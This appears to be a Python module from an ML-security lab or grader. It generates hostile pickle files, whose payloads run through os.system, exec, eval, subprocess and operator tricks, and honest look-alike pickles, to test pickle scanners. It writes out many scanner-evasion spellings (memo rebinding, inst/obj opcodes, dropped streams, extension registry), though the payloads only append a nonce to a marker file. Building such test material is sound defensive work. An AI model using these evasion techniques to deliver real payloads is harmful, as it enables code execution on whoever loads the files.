"""Pickles of known content: hostile ones from families of payloads, honest ones from a pool of ordinary objects.

A payload is an expression of names and calls, so what it reaches is known before a byte is written; `Writer` spells it
out in one of many ways that Python reads alike. Payloads are harmless: when one runs, it appends its nonce, a line of
hex, to the file that the environment variable MLSECOPS_MARKER names, and does nothing else.
"""

from __future__ import annotations

import hashlib
import importlib
import io
import os
import pickle
import shlex
import struct
import sys
import zlib
from dataclasses import dataclass

MARKER = "MLSECOPS_MARKER"


@dataclass(frozen=True)
class Name:
    """A global: `module` and attribute `name`, which may be dotted from protocol 4 on."""

    module: str
    name: str

    def __str__(self) -> str:
        return f"{self.module}:{self.name}"


class Call:
    """`function(*arguments)`, of which any may be a name or a call."""

    def __init__(self, function, *arguments):
        self.function, self.arguments = function, arguments


# --- payloads -------------------------------------------------------------------------------------------------------


def _marker() -> str | None:
    # A grading knows where the marker is and writes it into the payload: who empties the environment changes nothing.
    return os.environ.get(MARKER)


def _shell(nonce: str) -> str:
    if sys.platform == "win32":
        return f'echo {nonce}>>"{_marker() or f"%{MARKER}%"}"'
    return f"echo {nonce} >> {shlex.quote(known)}" if (known := _marker()) else f'echo {nonce} >> "${MARKER}"'


def _python(nonce: str) -> str:
    path = repr(known) if (known := _marker()) else f"__import__('os').environ['{MARKER}']"
    return f"open({path}, 'a').write('{nonce}\\n')"


def _os(r):
    return Name(r.choice(["os", "nt" if sys.platform == "win32" else "posix"]), "system")


def _import_os():
    return Call(Name("importlib", "import_module"), "os")


def _second_stage(r, n):
    inner = Writer(2).stream(Call(Name("builtins", "exec"), _python(n)))
    return Call(Name(r.choice(["pickle", "_pickle"]), "loads"), inner)


def _write_without_code(r, n):
    # The marker is opened and written to by three innocent calls: there is neither code nor a command in the stream.
    where = _marker() or (f"%{MARKER}%" if sys.platform == "win32" else f"${MARKER}")
    path = Call(Name("os.path", "expandvars"), where)
    return Call(Call(Name("builtins", "getattr"), Call(Name("io", "open"), path, "a"), "write"), n + "\n")


# Family to expression; those that need a special spelling are in `SPELLED`.
SEEN = {
    "system": lambda r, n: Call(_os(r), _shell(n)),
    "exec": lambda r, n: Call(Name("builtins", "exec"), _python(n)),
    "eval": lambda r, n: Call(Name("builtins", "eval"), _python(n)),
    "subprocess": lambda r, n: Call(Name("subprocess", "getoutput"), _shell(n)),
    "getattr": lambda r, n: Call(Call(Name("builtins", "getattr"), _import_os(), "system"), _shell(n)),
    "second stage": _second_stage,
}
HELD_BACK = {
    "methodcaller": lambda r, n: Call(Call(Name("operator", "methodcaller"), "system", _shell(n)), _import_os()),
    "attrgetter": lambda r, n: Call(Call(Call(Name("operator", "attrgetter"), "system"), _import_os()), _shell(n)),
    "partial": lambda r, n: Call(Call(Name("functools", "partial"), _os(r), _shell(n))),
    "lazy map": lambda r, n: Call(Name("builtins", "list"), Call(Name("builtins", "map"), _os(r), [_shell(n)])),
    "compressed code": lambda r, n: Call(
        Name("builtins", "exec"), Call(Name("zlib", "decompress"), zlib.compress(_python(n).encode()))
    ),
    "no code at all": _write_without_code,
    "stopwatch": lambda r, n: Call(Name("timeit", "timeit"), _python(n), "pass", Name("timeit", "default_timer"), 1),
}
# The allowed neighbor's module reaches the system through what it imports itself; needs dotted names, so protocol 4.
NEIGHBORS = {"uuid:UUID": Name("uuid", "os.system"), "random:Random": Name("random", "_os.system")}


def names_of(expression) -> list[Name]:
    """Every name in an expression, in the order in which it is reached."""
    if isinstance(expression, Name):
        return [expression]
    if isinstance(expression, Call):
        return [name for part in (expression.function, *expression.arguments) for name in names_of(part)]
    if isinstance(expression, list | tuple):
        return [name for part in expression for name in names_of(part)]
    if isinstance(expression, dict):
        return [name for pair in expression.items() for name in names_of(pair)]
    return []


class Live:
    """A call as an object, for pickling by a library: its pickle makes the call when it is loaded."""

    def __init__(self, call: Call):
        self.function = _live(call.function)
        self.arguments = tuple(map(_live, call.arguments))

    def __reduce__(self):
        return self.function, self.arguments

    def __call__(self):  # never called: the pickler only asks whether it could be
        raise NotImplementedError


def _live(part):
    if isinstance(part, Name):
        return getattr(importlib.import_module(part.module), part.name)
    if isinstance(part, Call):
        return Live(part)
    return [_live(item) for item in part] if isinstance(part, list) else part


# --- spelling -------------------------------------------------------------------------------------------------------


class Writer:
    """Writes pickles opcode by opcode.

    Args:
        protocol: 0 to 5; which opcodes are used, and what the stream says of itself.
        names: `"global"` (module and name in the opcode), `"stack"` (two strings on the stack), `"memo"` (the strings
            lie in the memo since long before), `"rebound"` (the same, after the memo held something else there).
        calls: `"reduce"`, `"inst"` or `"obj"`: three opcodes that call.
        strings: `"plain"`, or `"wide"` for the eight-byte length, or `"old"` for Python 2's quoted strings.
        dressed: put texts into the memo and, from protocol 4 on, everything into a frame, as Python's pickler does.
    """

    def __init__(
        self, protocol: int, names: str = "", calls: str = "reduce", strings: str = "plain", *, dressed: bool = False
    ):
        self.protocol, self.calls, self.strings = protocol, calls, strings
        self.names = names or ("stack" if protocol >= 4 else "global")
        self.dressed = dressed and protocol >= 2 and self.names not in ("memo", "rebound")

    def stream(self, value, dropped=None) -> bytes:
        """A whole pickle of `value`, which may hold names and calls anywhere.

        Args:
            dropped: made before it and thrown away, so that what is loaded shows no trace of it.
        """
        head = bytes([0x80, self.protocol]) if self.protocol >= 2 else b""
        self.slots, self.put = {}, 0
        opening = self._memo(names_of([dropped, value])) if self.names in ("memo", "rebound") else b""
        opening += b"" if dropped is None else self.push(dropped) + b"0"
        body = opening + self.push(value) + b"."
        frame = b"\x95" + struct.pack("<Q", len(body)) if self.dressed and self.protocol >= 4 else b""
        return head + frame + body

    def push(self, value) -> bytes:
        """Opcodes that leave `value` on the stack."""
        if isinstance(value, Name):
            return self._name(value)
        if isinstance(value, Call):
            return self._call(value)
        if value is None:
            return b"N"
        if isinstance(value, str):
            return self._text(value)
        if isinstance(value, bytes):
            return b"B" + struct.pack("<I", len(value)) + value
        if isinstance(value, int):
            return b"I%d\n" % value if self.protocol == 0 else b"J" + struct.pack("<i", value)
        if isinstance(value, float):
            return b"F%r\n" % value if self.protocol == 0 else b"G" + struct.pack(">d", value)
        if isinstance(value, list):
            return b"(" + b"".join(map(self.push, value)) + b"l"
        if isinstance(value, tuple):
            return b"(" + b"".join(map(self.push, value)) + b"t"
        return b"(" + b"".join(self.push(key) + self.push(item) for key, item in value.items()) + b"d"

    def _text(self, text: str) -> bytes:
        return self._bare_text(text) + (self._put() if self.dressed else b"")

    def _put(self) -> bytes:
        self.put += 1
        return b"\x94" if self.protocol >= 4 else b"r" + struct.pack("<I", self.put - 1)

    def _bare_text(self, text: str) -> bytes:
        data = text.encode()
        if self.strings == "wide":
            return b"\x8d" + struct.pack("<Q", len(data)) + data
        if self.strings == "old":
            return b"S" + repr(text).encode() + b"\n"
        if self.protocol == 0:
            return b"V" + text.replace("\\", "\\u005c").replace("\n", "\\u000a").encode() + b"\n"
        return (
            b"\x8c" + bytes([len(data)]) + data
            if self.protocol >= 4 and len(data) < 256
            else (b"X" + struct.pack("<I", len(data)) + data)
        )

    def _name(self, name: Name) -> bytes:
        if self.names == "global":
            return f"c{name.module}\n{name.name}\n".encode()
        if self.names == "stack":
            return self._text(name.module) + self._text(name.name) + b"\x93"
        return b"h" + bytes([self.slots[name.module]]) + b"h" + bytes([self.slots[name.name]]) + b"\x93"

    def _call(self, call: Call) -> bytes:
        arguments = b"".join(map(self.push, call.arguments))
        if self.calls == "inst" and isinstance(call.function, Name):
            return b"(" + arguments + f"i{call.function.module}\n{call.function.name}\n".encode()
        if self.calls == "obj":
            return b"(" + self.push(call.function) + arguments + b"o"
        return self.push(call.function) + b"(" + arguments + b"tR"

    def _memo(self, names) -> bytes:
        # Names before modules: whoever takes the last two strings takes them the wrong way round.
        texts = dict.fromkeys(text for name in names for text in (name.name, name.module))
        self.slots = {text: 7 * number + 3 for number, text in enumerate(texts)}
        opening = b""
        if self.names == "rebound":
            for text, slot in self.slots.items():
                opening += self._text("collections" if "." not in text else "layer") + b"q" + bytes([slot]) + b"0"
        for text, slot in self.slots.items():
            opening += self._text(text) + b"q" + bytes([slot]) + b"0"
        return opening


# --- hostile and honest streams -------------------------------------------------------------------------------------


def nonce(r) -> str:
    """Sixteen hex digits by which a payload that ran is known."""
    return f"{r.getrandbits(64):016x}"


def decoy(r) -> dict:
    """What a search would take for a payload, as data: everything that hostile and forbidden files hold.

    Cases differ in what they reach and in nothing that just lies in their bytes: not in a nonce, the marker's path, a
    name or how often it occurs, an opcode. Whoever searches finds all of it everywhere.
    """
    payload = (SEEN | HELD_BACK)[r.choice(sorted(SEEN | HELD_BACK))](r, nonce(r))
    objects = pool(r)
    names = [*objects, *map(str, names_of(payload))]
    names += r.choices(names, k=2 * len(names))
    r.shuffle(names)
    streams = [Writer(r.choice([3, 4]), dressed=r.random() < 0.5).stream(payload)]
    for name in r.sample(sorted(objects), len(objects)):
        streams.append(pickle.dumps(objects[name], protocol=r.choice([3, 4])))
    parts = {
        "log": r.choice([_shell, _python])(nonce(r)),
        "seen": [part for name in names for part in name.split(":")],
        "quarantine": b"".join(streams),
    }
    return {key: parts[key] for key in r.sample(sorted(parts), len(parts))}


def buried(r, part, *, quoting: bool = True) -> dict:
    """The part, which may be a payload, inside what looks like a saved model.

    Args:
        quoting: put a `decoy` into it.
    """
    weights = [round(r.uniform(-1, 1), 3) for _ in range(r.randint(2, 6))]
    model = {"layer": weights, "country": r.choice(["India", "Germany", "Brazil"]), "hook": part, "epochs": 40}
    model |= decoy(r) if quoting else {}
    return {key: model[key] for key in r.sample(sorted(model), len(model))}


def hostile(r, family: str, mark: str) -> tuple[bytes, list[str]]:
    """A pickle that runs its payload when it is loaded, and the globals that it reaches, as `module:name`, sorted.

    Args:
        r: source of draws.
        family: a key of `SEEN`, `HELD_BACK` or `SPELLED`.
        mark: the payload's nonce.
    """
    if family in SPELLED:
        return SPELLED[family](r, mark)
    payload = (SEEN | HELD_BACK)[family](r, mark)
    protocol = r.choice([2, 2, 3, 3, 4, 5]) if not _has_bytes(payload) else r.choice([3, 3, 4, 5])
    writer = Writer(protocol, dressed=r.random() < 0.5)
    return writer.stream(buried(r, payload) if r.random() < 0.8 else payload), reached(payload)


def _has_bytes(expression) -> bool:
    if isinstance(expression, Call):
        return any(map(_has_bytes, (expression.function, *expression.arguments)))
    return isinstance(expression, bytes)


def reached(expression) -> list[str]:
    """The globals in an expression, as `module:name`, sorted."""
    return sorted({str(name) for name in names_of(expression)})


def _spelled(protocols=(4, 5), wrap=False, tail=None, of=("system", "exec", "eval", "subprocess", "getattr"), **style):
    def family(r, mark):
        payload = SEEN[r.choice(of)](r, mark)
        writer = Writer(r.choice(protocols), **style, dressed=tail is None and r.random() < 0.5)
        data = writer.stream(buried(r, payload) if wrap else payload)
        return (data if tail is None else data[:-1] + tail(r)), reached(payload)

    return family


def _extension(r, mark):
    # Registers os.system under a number in the extension registry, then calls it by the number.
    code = r.randint(0x10000, 0x7FFFFFFF)
    register = Writer(2).push(Call(Name("copyreg", "add_extension"), "os", "system", code)) + b"0"
    call = b"\x84" + struct.pack("<i", code) + b"(" + Writer(2).push(_shell(mark)) + b"tR"
    return b"\x80\x02" + register + call + b".", ["copyreg:add_extension"]


def _python2(r, mark):
    payload = Call(Name("__builtin__", "eval"), _python(mark))
    return Writer(2).stream(payload), reached(payload)


def _dotted(r, mark):
    payload = Call(Name("logging", "os.system"), _shell(mark))
    return Writer(r.choice([4, 5])).stream(payload), reached(payload)


def _dropped(r, mark):
    payload = SEEN[r.choice(("system", "exec", "eval", "subprocess", "getattr"))](r, mark)
    writer = Writer(r.choice([2, 3, 4, 5]), dressed=r.random() < 0.5)
    return writer.stream(buried(r, plain(r)), dropped=payload), reached(payload)


def _garbage(r):
    return r.choice([b"", b"\xff", b"\x8c\xf0cut", b"h\xfe."])


SPELLED = {
    "buried": _spelled((2, 3, 4, 5), wrap=True),
    "text protocol": _spelled((0,)),
    "protocol 4": _spelled(of=("system", "subprocess"), names="stack"),
    "memo": _spelled(of=("system", "subprocess"), names="memo"),
    "rebound memo": _spelled(names="rebound", wrap=True),
    "inst": _spelled((0, 1, 2), calls="inst"),
    "obj": _spelled((2, 4), calls="obj"),
    "wide strings": _spelled(strings="wide", names="stack"),
    "old strings": _spelled((2, 3), strings="old", names="stack"),
    "breaks after": _spelled((2, 4, 5), tail=_garbage),
    "extension registry": _extension,
    "python 2 name": _python2,
    "dotted": _dotted,
    "dropped": _dropped,
}
PRACTICE = (*SEEN, "buried", "text protocol", "protocol 4", "memo")
HIDDEN = (*HELD_BACK, "rebound memo", "inst", "obj", "wide strings", "old strings", "breaks after", "dotted", "dropped")
HIDDEN_ODD = ("extension registry", "python 2 name")  # where "the globals reached" would need a long definition


def pool(r) -> dict[str, object]:
    """Ordinary objects by the global that their pickle reaches (protocols 3 to 5)."""
    import ipaddress
    import types
    import uuid
    from collections import Counter, OrderedDict, deque
    from datetime import date, timedelta
    from decimal import Decimal
    from fractions import Fraction

    n = r.randint(2, 9000)
    return {
        "collections:OrderedDict": OrderedDict([("country", n), ("years", n + 1)]),
        "collections:deque": deque([n, n + 1, n + 2]),
        "collections:Counter": Counter({"Germany": n, "India": 3}),
        "datetime:date": date(2026, 1 + n % 12, 1 + n % 28),
        "datetime:timedelta": timedelta(days=n, seconds=n),
        "decimal:Decimal": Decimal(n) / 100,
        "fractions:Fraction": Fraction(n, 9001),
        "uuid:UUID": uuid.UUID(int=n),
        "ipaddress:IPv4Address": ipaddress.IPv4Address(n),
        "builtins:complex": complex(n, -1),
        "builtins:range": range(n),
        "types:SimpleNamespace": types.SimpleNamespace(epochs=n),
    }


def arrays(r) -> tuple[dict, list[str]]:
    """A small state of numpy arrays, and the globals that its pickle reaches at protocol 4."""
    import numpy as np

    size = r.randint(2, 6)
    weights = np.array([r.uniform(-1, 1) for _ in range(size * 3)], dtype=r.choice(["float32", "float64"]))
    rebuild = weights.__reduce__()[0]
    return {"weight": weights.reshape(size, 3), "steps": np.arange(size)}, [
        f"{rebuild.__module__}:_reconstruct",
        "numpy:dtype",
        "numpy:ndarray",
    ]


def look_alikes(r, count: int) -> list:
    """Plain data that only talks about dangerous names; at most five of them."""
    return r.sample(
        [
            {"note": "never call os.system", "module": "posix", "function": "system"},
            ["os", "system", "echo hello"],
            {"raw": b"cos\nsystem\n(S'echo hello'\ntR.", "license": "builtins exec"},
            ("builtins", "eval", {"subprocess": "getoutput"}),
            {"codes": [99, 111, 115, 10], "text": "cposix\nsystem\n(tR."},
        ],
        count,
    )


def plain(r):
    """Data that reaches no global: what a model's settings look like."""
    return {"epochs": r.randint(1, 99), "lr": r.random(), "countries": r.sample(["India", "Brazil", "Spain"], 2)}


def fingerprint(value) -> str:
    """SHA-256 (hex) of what an object holds: its type and its parts, in order. The lab shows the same function."""

    def parts(value):
        kind = type(value).__name__
        if isinstance(value, dict):
            return [kind, [[parts(key), parts(item)] for key, item in value.items()]]
        if isinstance(value, list | tuple) or kind == "deque":
            return [kind, [parts(item) for item in value]]
        if kind == "ndarray":
            return [kind, str(value.dtype), list(value.shape), value.tobytes().hex()]
        return [kind, repr(value)]

    return hashlib.sha256(repr(parts(value)).encode()).hexdigest()


def expression_of(value):
    """The call that makes an object of the `pool`; None where there is none that needs no keywords."""
    from datetime import date

    kind, plain_type = type(value), type(value).__module__
    arguments = {
        "OrderedDict": lambda: [[list(pair) for pair in value.items()]],
        "deque": lambda: [list(value)],
        "Counter": lambda: [dict(value)],
        "date": lambda: list(date.timetuple(value)[:3]),
        "timedelta": lambda: [value.days, value.seconds],
        "Decimal": lambda: [str(value)],
        "Fraction": lambda: [value.numerator, value.denominator],
        "UUID": lambda: [value.hex],
        "IPv4Address": lambda: [int(value)],
        "complex": lambda: [value.real, value.imag],
        "range": lambda: [value.start, value.stop, value.step],
    }.get(kind.__name__)
    return arguments and Call(Name(plain_type, kind.__name__), *arguments())


def spelled(r, model: dict, *, odd: bool = False, dropped=None) -> bytes:
    """An honest pickle of a `buried` object, by Python's own pickler or, as often, in the ways of the hostile ones.

    Args:
        model: plain data; its `hook` may be an object of the `pool`.
        odd: also in the ways that practice never shows.
        dropped: an object of the `pool` that the stream makes and throws away.
    """
    part = model["hook"]
    expression = part if type(part) in (dict, list, tuple, str, int, float, type(None)) else expression_of(part)
    if dropped is None and (r.random() < 0.5 or (expression is None and part is not None)):
        return dumped(r, model)
    protocol = r.choice([2, 3, 4, 5])
    ways = [{}, {}, {"names": "memo"} if protocol >= 4 else {"protocol": 0}]
    ways += [{"names": "rebound"} if protocol >= 4 else {"calls": "inst"}, {"calls": "obj"}] if odd else []
    ways += [{"strings": "wide"} if protocol >= 4 else {"strings": "old"}] if odd else []
    way = {"protocol": protocol, "dressed": r.random() < 0.5} | r.choice(ways)
    return Writer(**way).stream({**model, "hook": expression}, dropped=expression_of(dropped))


def dumped(r, value) -> bytes:
    """An honest pickle of `value` in protocol 3 or 4, by Python's own pickler."""
    buffer = io.BytesIO()
    pickle.dump(value, buffer, protocol=r.choice([3, 4]))
    return buffer.getvalue()
